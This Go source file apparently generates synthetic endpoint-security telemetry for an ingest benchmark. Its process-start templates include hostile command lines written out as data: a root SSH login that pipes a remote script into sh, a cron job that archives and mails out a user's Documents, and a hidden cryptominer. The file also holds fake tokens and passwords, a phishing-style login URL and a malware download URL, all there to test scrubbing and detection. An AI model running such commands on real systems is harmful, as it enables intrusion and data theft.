package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/herdsec/herd"
	"github.com/herdsec/herd/httpapi"
)

// The telemetry mix: what agents send, in the proportions the ingest
// benchmark uses. Of every 10 events, 4 are process.start (command lines,
// some carrying secrets, e-mail addresses and IP addresses that the
// cloud's second scrubbing pass must remove, as from an old or tampered
// agent), 3 url.check (query strings with tracking parameters, session
// tokens and e-mail addresses) and 3 threat.detected (paths under home
// folders). Everything is drawn from a PRNG seeded by the template's
// index, so the mix is the same bytes on every run.

// mixEventIDPrefix starts every event id; the digits that follow are
// patched in per send (see mixBatch.body) so that no id repeats in a run.
const (
	mixEventIDPrefix = "hb-"
	mixEventIDDigits = 12
)

// mixBatch is one encoded POST /v1/telemetry body whose event ids are
// placeholders: body writes the ids of one send into a copy.
type mixBatch struct {
	Device string
	Body   []byte
	idAt   []int // offsets of each event's id digits in Body, in event order
}

// body returns a copy of the template with the ids of the seq-th batch of
// the run: event k gets the id hb-<seq*len+k>, zero-padded, so ids are
// unique across the run as long as seq is.
func (b *mixBatch) body(seq int64) []byte {
	out := bytes.Clone(b.Body)
	n := seq * int64(len(b.idAt))
	for k, off := range b.idAt {
		putDigits(out[off:off+mixEventIDDigits], n+int64(k))
	}
	return out
}

// putDigits writes v into dst as zero-padded decimal digits, filling dst.
func putDigits(dst []byte, v int64) {
	for i := len(dst) - 1; i >= 0; i-- {
		dst[i] = byte('0' + v%10)
		v /= 10
	}
}

// mixDevice names the d-th benchmark device, as its agent would send it.
func mixDevice(d int) string { return fmt.Sprintf("herdbench-device-%02d", d) }

// mixBatches returns n templates of size events each, template t for
// device t%devices, with event times in the hour before base.
func mixBatches(n, size, devices int, base time.Time) ([]mixBatch, error) {
	out := make([]mixBatch, n)
	for t := range out {
		dev := mixDevice(t % devices)
		evs := mixEvents(t, size, base)
		body, err := json.Marshal(httpapi.TelemetryRequest{Device: dev, Events: evs})
		if err != nil {
			return nil, err
		}
		b := mixBatch{Device: dev, Body: body}
		marker := []byte(`"id":"` + mixEventIDPrefix)
		for i := 0; ; {
			j := bytes.Index(body[i:], marker)
			if j < 0 {
				break
			}
			i += j + len(marker)
			b.idAt = append(b.idAt, i)
		}
		if len(b.idAt) != size {
			return nil, fmt.Errorf("mix template %d: found %d event ids, want %d", t, len(b.idAt), size)
		}
		out[t] = b
	}
	return out, nil
}

// mixEvents returns the events of template t. Their ids are placeholders
// of the right width; times step back one second per event from base.
func mixEvents(t, size int, base time.Time) []herd.Event {
	r := rand.New(rand.NewPCG(2024, uint64(t)))
	evs := make([]herd.Event, size)
	for k := range evs {
		ev := herd.Event{
			ID:   mixEventIDPrefix + strings.Repeat("0", mixEventIDDigits),
			Time: base.Add(-time.Duration(t*size+k+1) * time.Second).UTC(),
		}
		switch k % 10 {
		case 0, 1, 2, 3:
			ev.Type, ev.Category, ev.Payload = "process.start", herd.CategoryOSEvents, processStart(r)
		case 4, 5, 6:
			ev.Type, ev.Category, ev.Payload = "url.check", herd.CategoryWeb, urlCheck(r)
		default:
			ev.Type, ev.Category, ev.Payload = "threat.detected", herd.CategoryThreats, threatDetected(r)
		}
		evs[k] = ev
	}
	return evs
}

var (
	mixUsers   = []string{"alice", "bob", "carol", "dmitri", "evelyn", "frank", "grace", "heidi", "ivan", "judy"}
	mixDomains = []string{"example.com", "contoso.com", "acme-corp.example", "mail.example.org"}
)

func pick[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

func randHex(r *rand.Rand, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[r.IntN(16)]
	}
	return string(b)
}

// randBase32 returns n characters of RFC 4648 base32, the alphabet of AWS
// access key ids.
func randBase32(r *rand.Rand, n int) string {
	const chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	b := make([]byte, n)
	for i := range b {
		b[i] = chars[r.IntN(len(chars))]
	}
	return string(b)
}

func randAlnum(r *rand.Rand, n int) string {
	const chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = chars[r.IntN(len(chars))]
	}
	return string(b)
}

// A command line and the programs around it, for process.start.
type procTemplate struct {
	image, parent string
	cmd           func(r *rand.Rand, user string) string
	rule          string
}

var procTemplates = []procTemplate{
	{"/usr/bin/curl", "/usr/bin/bash", func(r *rand.Rand, u string) string {
		return `curl -sS -H "Authorization: Bearer ghp_` + randAlnum(r, 36) + `" https://api.github.com/repos/acme/infra/releases?per_page=5`
	}, "beh:net.curl-token"},
	{"/usr/bin/ssh", "/usr/bin/bash", func(r *rand.Rand, u string) string {
		return fmt.Sprintf("ssh -i /home/%s/.ssh/id_ed25519 -p 22 admin@10.1.%d.%d uptime", u, r.IntN(256), 1+r.IntN(254))
	}, "beh:lateral.ssh"},
	{"/usr/bin/python3.12", "/usr/bin/bash", func(r *rand.Rand, u string) string {
		return fmt.Sprintf("python3 /home/%s/x.py --password hunter2 --db postgres://etl:s3cr3t-%s@db.internal:5432/sales --out /home/%s/reports/q%d.csv", u, randAlnum(r, 6), u, 1+r.IntN(4))
	}, "beh:script.credential-arg"},
	{"/usr/bin/bash", "/usr/bin/cron", func(r *rand.Rand, u string) string {
		return fmt.Sprintf(`/bin/bash -c "tar czf - /home/%s/Documents | mail -s backup-%d %s@%s"`, u, r.IntN(1000), u, pick(r, mixDomains))
	}, "beh:exfil.archive-mail"},
	{"/usr/bin/mysql", "/usr/bin/bash", func(r *rand.Rand, u string) string {
		return fmt.Sprintf("mysql -u root -pS3cretPass%d! -h 192.168.%d.%d shop -e 'select * from customers'", r.IntN(100), r.IntN(256), 1+r.IntN(254))
	}, "beh:db.cli-password"},
	{"/usr/bin/sshpass", "/usr/bin/bash", func(r *rand.Rand, u string) string {
		return fmt.Sprintf("sshpass -p 'Winter2026!' ssh -o StrictHostKeyChecking=no root@203.0.113.%d 'curl -s http://198.51.100.%d/x.sh | sh'", 1+r.IntN(254), 1+r.IntN(254))
	}, "beh:lateral.sshpass"},
	{"/usr/bin/docker", "/usr/bin/bash", func(r *rand.Rand, u string) string {
		return "docker run --rm -e AWS_ACCESS_KEY_ID=AKIA" + randBase32(r, 16) + " -e AWS_SECRET_ACCESS_KEY=" + randAlnum(r, 40) + " amazon/aws-cli s3 ls s3://acme-backups"
	}, "beh:cloud.key-in-env"},
	{"/tmp/.X11-unix/.k/kworkerd", "/usr/lib/systemd/systemd", func(r *rand.Rand, u string) string {
		return "/tmp/.X11-unix/.k/kworkerd -o stratum+tcp://pool.minexmr.example:4444 -u 4" + randAlnum(r, 94) + " -p x --donate-level 1 --cpu-max-threads-hint 75"
	}, "beh:miner.stratum"},
	{"/usr/lib/firefox/firefox", "/usr/lib/firefox/firefox", func(r *rand.Rand, u string) string {
		return fmt.Sprintf("/usr/lib/firefox/firefox -contentproc -childID %d -isForBrowser -prefsLen 31 -prefMapSize 244310 -jsInitLen 231800 -parentBuildID 20260105112233 -greomni /usr/lib/firefox/omni.ja -appomni /usr/lib/firefox/browser/omni.ja -appDir /usr/lib/firefox/browser {%s} %d true tab", 1+r.IntN(40), randHex(r, 8), 1000+r.IntN(9000))
	}, "beh:browser.child"},
	{"/usr/bin/git", "/usr/bin/bash", func(r *rand.Rand, u string) string {
		return fmt.Sprintf("git clone https://%s:ghp_%s@github.com/acme/tools.git /home/%s/src/tools-%d", u, randAlnum(r, 36), u, r.IntN(100))
	}, "beh:vcs.token-url"},
}

type processStartPayload struct {
	ImageSHA256 string `json:"image_sha256"`
	ImagePath   string `json:"image_path,omitempty"`
	ParentPath  string `json:"parent_path,omitempty"`
	CommandLine string `json:"command_line,omitempty"`
	RuleID      string `json:"rule_id,omitempty"`
}

func processStart(r *rand.Rand) json.RawMessage {
	p := pick(r, procTemplates)
	u := pick(r, mixUsers)
	return mustJSON(processStartPayload{
		ImageSHA256: randHex(r, 64),
		ImagePath:   p.image,
		ParentPath:  p.parent,
		CommandLine: p.cmd(r, u),
		RuleID:      p.rule,
	})
}

var urlTemplates = []func(r *rand.Rand, u string) string{
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("https://www.example-shop.com/products/%d?utm_source=newsletter&utm_medium=email&utm_campaign=spring-%d&fbclid=IwAR%s&color=blue", r.IntN(100000), r.IntN(30), randAlnum(r, 40))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("https://login.micros0ft-support.example/common/oauth2/authorize?client_id=%s-%s-4%s-a%s-%s&redirect_uri=https%%3A%%2F%%2Foutlook.office.com%%2F&login_hint=%s%%40%s&state=%s",
			randHex(r, 8), randHex(r, 4), randHex(r, 3), randHex(r, 3), randHex(r, 12), u, pick(r, mixDomains), randHex(r, 32))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("https://news.example.org/2026/03/story-%d.html?gclid=%s&ref=homepage#comments", r.IntN(10000), randAlnum(r, 30))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("http://198.51.100.%d/dl/invoice_%d.exe?session=%s", 1+r.IntN(254), r.IntN(100000), randHex(r, 32))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("https://docs.google.com/document/d/%s/edit?usp=sharing&authuser=%s@gmail.com", randAlnum(r, 44), u)
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("https://search.example.com/search?q=how+to+remove+malware+%d&client=firefox-b-d&sessionid=%s", r.IntN(100), randHex(r, 24))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("https://cdn.example.net/assets/app.%s.js", randHex(r, 8))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("https://%s:%s@files.example.net/share/%s/report.pdf?token=%s&lang=en", u, randAlnum(r, 10), randAlnum(r, 12), randHex(r, 40))
	},
}

type urlCheckPayload struct {
	URL     string `json:"url"`
	Verdict string `json:"verdict,omitempty"`
	Blocked bool   `json:"blocked"`
}

func urlCheck(r *rand.Rand) json.RawMessage {
	u := pick(r, urlTemplates)(r, pick(r, mixUsers))
	v := pick(r, []string{"clean", "clean", "clean", "unknown", "suspicious", "malicious"})
	return mustJSON(urlCheckPayload{URL: u, Verdict: v, Blocked: v == "malicious"})
}

var threatPaths = []func(r *rand.Rand, u string) string{
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("/home/%s/Downloads/invoice_%d.pdf.exe", u, r.IntN(100000))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("/home/%s/.cache/mozilla/firefox/%s.default-release/cache2/entries/%s", u, randAlnum(r, 8), strings.ToUpper(randHex(r, 40)))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("/home/%s/.local/share/Trash/files/setup(%d).exe", u, r.IntN(9))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("/home/%s/.config/autostart/.%s.desktop", u, randAlnum(r, 6))
	},
	func(r *rand.Rand, u string) string {
		return fmt.Sprintf("/home/%s/Documents/Clients/%s-taxes-2025-%d.docm", u, u, r.IntN(10))
	},
	func(r *rand.Rand, u string) string { return "/tmp/.ICE-unix/.x/" + randAlnum(r, 8) },
}

var threatNames = []string{"Trojan.Linux.Mirai.B", "Win32.Emotet.Gen", "Eicar-Test-Signature", "JS.Phishing.Kit-17", "Coinminer.XMRig.A", "Backdoor.Linux.Tsunami.C"}

type threatDetectedPayload struct {
	SHA256     string `json:"sha256"`
	SHA1       string `json:"sha1,omitempty"`
	MD5        string `json:"md5,omitempty"`
	ThreatName string `json:"threat_name,omitempty"`
	Method     string `json:"method,omitempty"`
	Action     string `json:"action,omitempty"`
	Path       string `json:"path,omitempty"`
	RuleID     string `json:"rule_id,omitempty"`
}

func threatDetected(r *rand.Rand) json.RawMessage {
	return mustJSON(threatDetectedPayload{
		SHA256:     randHex(r, 64),
		SHA1:       randHex(r, 40),
		MD5:        randHex(r, 32),
		ThreatName: pick(r, threatNames),
		Method:     pick(r, []string{"signature", "behaviour", "cloud", "heuristic"}),
		Action:     pick(r, []string{"reported", "quarantined", "deleted", "blocked"}),
		Path:       pick(r, threatPaths)(r, pick(r, mixUsers)),
		RuleID:     "sig:" + strconv.Itoa(100000+r.IntN(900000)),
	})
}

func mustJSON(v any) json.RawMessage {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // structs of strings always encode
	}
	return b
}
